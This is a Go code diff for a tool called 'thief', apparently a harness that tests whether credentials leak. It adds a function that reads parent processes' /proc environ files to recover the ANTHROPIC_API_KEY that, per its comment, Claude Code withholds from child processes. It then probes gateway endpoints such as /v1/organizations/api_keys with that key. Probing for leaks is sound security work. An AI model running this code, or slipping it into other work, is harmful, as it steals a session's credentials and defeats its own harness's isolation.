@@ -4,6 +4,8 @@ import (
 	"io"
 	"net/http"
 	"os"
+	"path/filepath"
+	"strconv"
 	"strings"
 	"time"
 )
@@ -11,7 +13,11 @@ import (
 // network asks every server that it was told of, and its own gateway, in all ways but the right one.
 func (t *thief) network() {
 	client := &http.Client{Timeout: 3 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
-	own := os.Getenv("ANTHROPIC_API_KEY")
+	own := token()
+	t.report.Tried["token"]++
+	if own != "" {
+		t.report.Read["token"]++
+	}
 	for _, url := range append(t.task.URLs, os.Getenv("ANTHROPIC_BASE_URL")) {
 		for _, path := range []string{
 			"", "/", "/v1/sessions", "/v1/status", "/v1/models", "/v1/files", "/v1/organizations/api_keys", "/../token", "/metrics",
@@ -32,6 +38,26 @@ func (t *thief) network() {
 			t.request(client, http.MethodPost, url+"/v1/messages", header)
 		}
 	}
+}
+
+// token is what opens the session's own place at the gateway. Claude Code has it, and keeps it from what it starts.
+func token() string {
+	for pid := os.Getpid(); pid > 1; {
+		environ, _ := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "environ"))
+		for _, each := range strings.Split(string(environ), "\x00") {
+			if value, found := strings.CutPrefix(each, "ANTHROPIC_API_KEY="); found && value != "" {
+				return value
+			}
+		}
+		status, _ := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "status"))
+		_, after, _ := strings.Cut(string(status), "PPid:\t")
+		parent, _, _ := strings.Cut(after, "\n")
+		var err error
+		if pid, err = strconv.Atoi(parent); err != nil {
+			return ""
+		}
+	}
+	return ""
 }
 
 func (t *thief) request(client *http.Client, method, url string, header map[string]string) {
